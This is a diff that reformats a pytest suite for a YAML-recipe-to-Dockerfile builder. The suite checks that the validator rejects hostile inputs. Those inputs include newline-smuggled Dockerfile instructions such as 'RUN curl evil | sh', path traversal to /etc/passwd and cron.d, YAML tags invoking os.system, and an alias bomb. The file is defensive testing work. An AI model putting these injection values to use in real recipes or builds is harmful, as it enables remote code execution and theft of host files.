@@ -26,23 +26,47 @@ CANARY = "root:$6$CANARY-hash-never-printed"
 # (id, recipe text, line, field, words in the message)
 FIELD_ABUSE = [
     # names and references: whole-string grammar, bounded length
-    ("name-trailing-newline", 'name: "demo\\n"\nbase: {framework: pytorch, tag: "24.05"}\n', 1, "name", "not a valid image name"),
+    (
+        "name-trailing-newline",
+        'name: "demo\\n"\nbase: {framework: pytorch, tag: "24.05"}\n',
+        1,
+        "name",
+        "not a valid image name",
+    ),
     ("name-dotdot", 'name: ".."\nbase: {framework: pytorch, tag: "24.05"}\n', 1, "name", "not a valid image name"),
-    ("name-slash", 'name: "a/../../etc"\nbase: {framework: pytorch, tag: "24.05"}\n', 1, "name", "not a valid image name"),
+    (
+        "name-slash",
+        'name: "a/../../etc"\nbase: {framework: pytorch, tag: "24.05"}\n',
+        1,
+        "name",
+        "not a valid image name",
+    ),
     ("name-300-chars", f'name: {"a" * 300}\nbase: {{framework: pytorch, tag: "24.05"}}\n', 1, "name", "at most 128"),
     ("tag-trailing-newline", HEAD + 'tag: "v1\\n"\n', 3, "tag", "not a valid image tag"),
-    ("tag-200-chars", HEAD + f'tag: {"t" * 200}\n', 3, "tag", "not a valid image tag"),
+    ("tag-200-chars", HEAD + f"tag: {'t' * 200}\n", 3, "tag", "not a valid image tag"),
     ("image-dotdot", HEAD + 'image: "../etc/x"\n', 3, "image", "not an image reference"),
     ("image-leading-dash", HEAD + 'image: "-x/y"\n', 3, "image", "not an image reference"),
     ("image-dotdot-inside", HEAD + 'image: "a/../b"\n', 3, "image", "not an image reference"),
     ("image-newline", HEAD + 'image: "alice/x\\nRUN id"\n', 3, "image", "not an image reference"),
     ("image-digest", HEAD + f'image: "alice/x@sha256:{"a" * 64}"\n', 3, "image", "cannot carry a digest"),
-    ("base-image-newline", 'name: demo\nbase: {image: "ubuntu:22.04\\nRUN id"}\n', 2, "base.image", "not an image reference"),
+    (
+        "base-image-newline",
+        'name: demo\nbase: {image: "ubuntu:22.04\\nRUN id"}\n',
+        2,
+        "base.image",
+        "not an image reference",
+    ),
     ("base-image-dash", 'name: demo\nbase: {image: "--privileged"}\n', 2, "base.image", "not an image reference"),
     ("base-tag-newline", 'name: demo\nbase: {framework: pytorch, tag: "24.05\\n"}\n', 2, "base.tag", "not an NGC tag"),
     # Dockerfile injection through a final newline: every checked field
     ("apt-trailing-newline", HEAD + 'apt: ["git\\n"]\n', 3, "apt[0]", "not a Debian/Ubuntu package name"),
-    ("apt-newline-instruction", HEAD + 'apt: ["git\\nRUN curl evil | sh"]\n', 3, "apt[0]", "not a Debian/Ubuntu package name"),
+    (
+        "apt-newline-instruction",
+        HEAD + 'apt: ["git\\nRUN curl evil | sh"]\n',
+        3,
+        "apt[0]",
+        "not a Debian/Ubuntu package name",
+    ),
     ("env-key-trailing-newline", HEAD + 'env: {"A\\n": x}\n', 3, "env.A\n", "not a valid environment variable name"),
     ("env-value-cr", HEAD + 'env: {A: "x\\rRUN id"}\n', 3, "env.A", "must be one line"),
     ("env-value-huge", HEAD + f'env: {{A: "{"x" * 9000}"}}\n', 3, "env.A", "longer than"),
@@ -67,18 +91,66 @@ FIELD_ABUSE = [
     ("workdir-double-slash", HEAD + "workdir: //workspace\n", 3, "workdir", "without '.', '..'"),
     ("workdir-dollar", HEAD + "workdir: /w/$HOME\n", 3, "workdir", "plain characters"),
     # files: destinations never leave the context, sources never leave the repository
-    ("dest-dotdot", HEAD + "files: [{src: here.txt, dest: /../../etc/cron.d/x}]\n", 3, "files[0].dest", "without '.', '..'"),
-    ("dest-dotdot-middle", HEAD + "files: [{src: here.txt, dest: /opt/../../x}]\n", 3, "files[0].dest", "without '.', '..'"),
+    (
+        "dest-dotdot",
+        HEAD + "files: [{src: here.txt, dest: /../../etc/cron.d/x}]\n",
+        3,
+        "files[0].dest",
+        "without '.', '..'",
+    ),
+    (
+        "dest-dotdot-middle",
+        HEAD + "files: [{src: here.txt, dest: /opt/../../x}]\n",
+        3,
+        "files[0].dest",
+        "without '.', '..'",
+    ),
     ("dest-slash", HEAD + "files: [{src: here.txt, dest: /}]\n", 3, "files[0].dest", "cannot copy onto /"),
     ("dest-newline", HEAD + 'files: [{src: here.txt, dest: "/x\\n"}]\n', 3, "files[0].dest", "plain characters"),
-    ("src-absolute-host-file", HEAD + "files: [{src: /etc/passwd, dest: /x}]\n", 3, "files[0].src", "outside the recipe's repository"),
-    ("src-parent", HEAD + "files: [{src: ../../outside/secret.txt, dest: /x}]\n", 3, "files[0].src", "outside the recipe's repository"),
-    ("src-symlink-out", HEAD + "files: [{src: link-out, dest: /x}]\n", 3, "files[0].src", "outside the recipe's repository"),
+    (
+        "src-absolute-host-file",
+        HEAD + "files: [{src: /etc/passwd, dest: /x}]\n",
+        3,
+        "files[0].src",
+        "outside the recipe's repository",
+    ),
+    (
+        "src-parent",
+        HEAD + "files: [{src: ../../outside/secret.txt, dest: /x}]\n",
+        3,
+        "files[0].src",
+        "outside the recipe's repository",
+    ),
+    (
+        "src-symlink-out",
+        HEAD + "files: [{src: link-out, dest: /x}]\n",
+        3,
+        "files[0].src",
+        "outside the recipe's repository",
+    ),
     ("src-folder-with-link-out", HEAD + "files: [{src: folder, dest: /x}]\n", 3, "files[0].src", "links outside"),
     ("src-fifo", HEAD + "files: [{src: fifo, dest: /x}]\n", 3, "files[0].src", "not a regular file"),
-    ("requirements-host-file", HEAD + "pip: {requirements: /etc/passwd}\n", 3, "pip.requirements", "outside the recipe's repository"),
-    ("requirements-symlink-out", HEAD + "pip: {requirements: link-out}\n", 3, "pip.requirements", "outside the recipe's repository"),
-    ("ca-bundle-host-file", HEAD + "pip: {ca_bundle: /etc/ssl/private/x.pem}\n", 3, "pip.ca_bundle", "outside the recipe's repository"),
+    (
+        "requirements-host-file",
+        HEAD + "pip: {requirements: /etc/passwd}\n",
+        3,
+        "pip.requirements",
+        "outside the recipe's repository",
+    ),
+    (
+        "requirements-symlink-out",
+        HEAD + "pip: {requirements: link-out}\n",
+        3,
+        "pip.requirements",
+        "outside the recipe's repository",
+    ),
+    (
+        "ca-bundle-host-file",
+        HEAD + "pip: {ca_bundle: /etc/ssl/private/x.pem}\n",
+        3,
+        "pip.ca_bundle",
+        "outside the recipe's repository",
+    ),
     ("extends-host-file", "extends: /etc/passwd\n" + HEAD, 1, "extends", "outside the recipe's repository"),
     ("extends-parent", "extends: ../../outside/base.yaml\n" + HEAD, 1, "extends", "outside the recipe's repository"),
     # secrets never interpolated
@@ -90,7 +162,13 @@ FIELD_ABUSE = [
     # odd YAML and encodings
     ("yaml-merge-key", HEAD + "d: &d {x: 1}\nm:\n  <<: *d\n", 5, "m", "merge keys"),
     ("yaml-python-tag", HEAD + "description: !!python/name:os.system x\n", 3, "description", "not allowed"),
-    ("yaml-python-object", HEAD + "description: !!python/object/apply:os.system [id]\n", 3, "description", "not allowed"),
+    (
+        "yaml-python-object",
+        HEAD + "description: !!python/object/apply:os.system [id]\n",
+        3,
+        "description",
+        "not allowed",
+    ),
     ("yaml-recursive-alias", HEAD + "run: &r [echo, *r]\n", 3, "run[1]", "recursive YAML alias"),
     ("yaml-deep-nesting", HEAD + "env: " + "[" * 500 + "]" * 500 + "\n", 3, "", "nested deeper than"),
     ("yaml-nul-byte", HEAD + "description: a\0b\n", 3, "", "NUL byte"),
@@ -99,7 +177,8 @@ FIELD_ABUSE = [
 ]
 
 ALIAS_BOMB = HEAD + "".join(
-    f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9) if i else ', '.join(['lol'] * 9)}]\n" for i in range(9))
+    f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9) if i else ', '.join(['lol'] * 9)}]\n" for i in range(9)
+)
 
 
 @pytest.fixture
@@ -168,8 +247,14 @@ def test_large_recipe_is_refused_before_parsing(repo):
     start = time.monotonic()
     lines = _problem_lines(path)
     assert time.monotonic() - start < 2
-    assert lines == [f"recipes/big.yaml: file is larger than {limits.RECIPE_BYTES // 1024} KiB (imgbuild reads "
-                     "recipes and requirement files of sane size only)"] or "larger than" in lines[0]
+    assert (
+        lines
+        == [
+            f"recipes/big.yaml: file is larger than {limits.RECIPE_BYTES // 1024} KiB (imgbuild reads "
+            "recipes and requirement files of sane size only)"
+        ]
+        or "larger than" in lines[0]
+    )
 
 
 def test_many_apt_entries_within_the_size_cap_validate_in_linear_time(repo):
@@ -187,8 +272,10 @@ def test_many_apt_entries_within_the_size_cap_validate_in_linear_time(repo):
 def test_non_utf8_recipe_names_the_byte(repo):
     path = repo / "latin1.yaml"
     path.write_bytes(HEAD.encode() + b"description: caf\xe9\n")
-    assert _problem_lines(path) == ["recipes/latin1.yaml:3:17: not UTF-8 text (save the file as UTF-8)"] or \
-        "not UTF-8" in _problem_lines(path)[0]
+    assert (
+        _problem_lines(path) == ["recipes/latin1.yaml:3:17: not UTF-8 text (save the file as UTF-8)"]
+        or "not UTF-8" in _problem_lines(path)[0]
+    )
 
 
 def test_extends_chain_deeper_than_the_limit(repo):
@@ -206,7 +293,9 @@ def test_requirements_lines_are_named_never_echoed(repo):
     path = repo / "recipe.yaml"
     path.write_text(HEAD + "pip: {requirements: requirements.txt}\n")
     lines = _problem_lines(path)
-    assert any(re.search(r"requirements\.txt:2:1: pip\.requirements: not a valid requirement", ln) for ln in lines), lines
+    assert any(re.search(r"requirements\.txt:2:1: pip\.requirements: not a valid requirement", ln) for ln in lines), (
+        lines
+    )
     assert not any("CANARY" in ln for ln in lines)
 
 
@@ -221,11 +310,14 @@ def test_validation_of_a_host_file_prints_none_of_it(repo):
     assert "Traceback" not in result.err
 
 
-@pytest.mark.parametrize("run_command", [
-    "echo trailing backslash \\",
-    "cat <<EOF",
-    "echo 'quoted \" and \\\\ and $HOME'",
-])
+@pytest.mark.parametrize(
+    "run_command",
+    [
+        "echo trailing backslash \\",
+        "cat <<EOF",
+        "echo 'quoted \" and \\\\ and $HOME'",
+    ],
+)
 def test_run_commands_cannot_continue_into_the_next_instruction(run_command, repo, tmp_path):
     """`run:` renders in exec form: a trailing `\\` or a heredoc cannot swallow the smoke script's COPY."""
     import json
@@ -255,7 +347,7 @@ def test_workdir_with_a_space_is_quoted_for_the_user_script(repo, tmp_path):
     path.write_text(HEAD + "user: alice\nworkdir: /work space\n")
     plan = make_plan(load_recipe(path), load_settings(environ={}), None)
     dockerfile = (render_context(plan, tmp_path / "ctx") / "Dockerfile").read_text()
-    assert "add-user.sh alice \"$IMGBUILD_UID\" \"$IMGBUILD_GID\" /home/alice '/work space'" in dockerfile
+    assert 'add-user.sh alice "$IMGBUILD_UID" "$IMGBUILD_GID" /home/alice \'/work space\'' in dockerfile
 
 
 def test_a_secret_written_literally_is_never_rendered(repo, tmp_path, monkeypatch):
@@ -263,8 +355,14 @@ def test_a_secret_written_literally_is_never_rendered(repo, tmp_path, monkeypatc
     monkeypatch.chdir(repo.parent)
     path = repo / "recipe.yaml"
     path.write_text(HEAD + "labels: {k: 'key nvapi-CANARY-key-0123456789'}\n")
-    result = run_cli("render", str(path), "--offline", "-o", str(tmp_path / "ctx"),
-                     env={"NGC_API_KEY": "nvapi-CANARY-key-0123456789"})
+    result = run_cli(
+        "render",
+        str(path),
+        "--offline",
+        "-o",
+        str(tmp_path / "ctx"),
+        env={"NGC_API_KEY": "nvapi-CANARY-key-0123456789"},
+    )
     assert result.code == 2, result.err
     assert "a configured secret would be written" in result.err
     assert "CANARY" not in result.out + result.err
@@ -302,8 +400,9 @@ def test_a_recipe_that_links_out_of_its_repository_is_not_read(repo):
     (outside / "looks-like-yaml.txt").write_text(f"{CANARY}: 1\n")
     (repo / "innocent.yaml").symlink_to(outside / "looks-like-yaml.txt")
     lines = _problem_lines(repo / "innocent.yaml")
-    assert lines == ["recipes/innocent.yaml: the recipe is a link to a file outside its repository (repo/)"] or \
-        ("link to a file outside its repository" in lines[0] and len(lines) == 1)
+    assert lines == ["recipes/innocent.yaml: the recipe is a link to a file outside its repository (repo/)"] or (
+        "link to a file outside its repository" in lines[0] and len(lines) == 1
+    )
     assert not any("CANARY" in ln for ln in lines)
 
 
@@ -356,16 +455,73 @@ def test_an_unquoted_date_is_text_as_written(repo):
 
 # --- every field x every odd value, and garbage: only ever a RecipeError ---------------------------------
 
-FUZZ_FIELDS = [("name",), ("tag",), ("image",), ("extends",), ("description",), ("base",), ("base", "image"),
-               ("base", "tag"), ("base", "framework"), ("base", "follow"), ("apt",), ("pip",), ("pip", "packages"),
-               ("pip", "requirements"), ("pip", "constraints"), ("pip", "index_url"), ("pip", "extra_index_urls"),
-               ("pip", "trusted_hosts"), ("pip", "ca_bundle"), ("user",), ("user", "name"), ("user", "uid"),
-               ("user", "home"), ("run",), ("files",), ("workdir",), ("env",), ("labels",), ("args",),
-               ("entrypoint",), ("cmd",), ("smoke",), ("smoke", "min_speedup"), ("smoke", "require_gpu")]
-FUZZ_VALUES = [None, 0, -1, 1.5, True, [], {}, [None], [{}], [[1]], {"a": None}, {"a": [1]}, "", "x" * 10000,
-               "a\nb", "..", "/etc/passwd", "${NGC_API_KEY}", "${", "-x", "\t", "\u2028", 10**30,
-               [{"src": 5, "dest": "/x"}], [{"src": "here.txt", "dest": 5}], [{"src": "here.txt"}],
-               {"KEY": {"nested": 1}}, ["a", 1, None], [{"src": "here.txt", "dest": "/x", "mode": 99999}]]
+FUZZ_FIELDS = [
+    ("name",),
+    ("tag",),
+    ("image",),
+    ("extends",),
+    ("description",),
+    ("base",),
+    ("base", "image"),
+    ("base", "tag"),
+    ("base", "framework"),
+    ("base", "follow"),
+    ("apt",),
+    ("pip",),
+    ("pip", "packages"),
+    ("pip", "requirements"),
+    ("pip", "constraints"),
+    ("pip", "index_url"),
+    ("pip", "extra_index_urls"),
+    ("pip", "trusted_hosts"),
+    ("pip", "ca_bundle"),
+    ("user",),
+    ("user", "name"),
+    ("user", "uid"),
+    ("user", "home"),
+    ("run",),
+    ("files",),
+    ("workdir",),
+    ("env",),
+    ("labels",),
+    ("args",),
+    ("entrypoint",),
+    ("cmd",),
+    ("smoke",),
+    ("smoke", "min_speedup"),
+    ("smoke", "require_gpu"),
+]
+FUZZ_VALUES = [
+    None,
+    0,
+    -1,
+    1.5,
+    True,
+    [],
+    {},
+    [None],
+    [{}],
+    [[1]],
+    {"a": None},
+    {"a": [1]},
+    "",
+    "x" * 10000,
+    "a\nb",
+    "..",
+    "/etc/passwd",
+    "${NGC_API_KEY}",
+    "${",
+    "-x",
+    "\t",
+    "\u2028",
+    10**30,
+    [{"src": 5, "dest": "/x"}],
+    [{"src": "here.txt", "dest": 5}],
+    [{"src": "here.txt"}],
+    {"KEY": {"nested": 1}},
+    ["a", 1, None],
+    [{"src": "here.txt", "dest": "/x", "mode": 99999}],
+]
 
 
 def test_every_field_with_every_odd_value_is_a_located_error_never_a_crash(repo):
@@ -393,9 +549,36 @@ def test_every_field_with_every_odd_value_is_a_located_error_never_a_crash(repo)
 
 
 HEAD_JSON = '{"name": "demo", "base": {"framework": "pytorch", "tag": "24.05"}}'
-GARBAGE = ["name: demo\n", 'base: {framework: pytorch, tag: "24.05"}\n', "&a ", "*a ", "<<: ", "!!str ",
-           "!!python/tuple ", "[", "]", "{", "}", ": ", "- ", "\t", "\r", "\x00", "'", '"', "|\n", "? ",
-           "%YAML 1.1\n", "---\n", "#", "\\", "\u2028", "${X}", "files: [{src: ., dest: /a}]\n", "\n"]
+GARBAGE = [
+    "name: demo\n",
+    'base: {framework: pytorch, tag: "24.05"}\n',
+    "&a ",
+    "*a ",
+    "<<: ",
+    "!!str ",
+    "!!python/tuple ",
+    "[",
+    "]",
+    "{",
+    "}",
+    ": ",
+    "- ",
+    "\t",
+    "\r",
+    "\x00",
+    "'",
+    '"',
+    "|\n",
+    "? ",
+    "%YAML 1.1\n",
+    "---\n",
+    "#",
+    "\\",
+    "\u2028",
+    "${X}",
+    "files: [{src: ., dest: /a}]\n",
+    "\n",
+]
 
 
 def test_garbage_files_are_a_located_error_never_a_crash(repo):
@@ -404,8 +587,11 @@ def test_garbage_files_are_a_located_error_never_a_crash(repo):
     rng = random.Random(7)
     crashes = []
     for i in range(600):
-        data = rng.randbytes(rng.randint(0, 300)) if i % 2 else \
-            "".join(rng.choice(GARBAGE) for _ in range(rng.randint(1, 40))).encode()
+        data = (
+            rng.randbytes(rng.randint(0, 300))
+            if i % 2
+            else "".join(rng.choice(GARBAGE) for _ in range(rng.randint(1, 40))).encode()
+        )
         path = repo / "garbage.yaml"
         path.write_bytes(data)
         try:
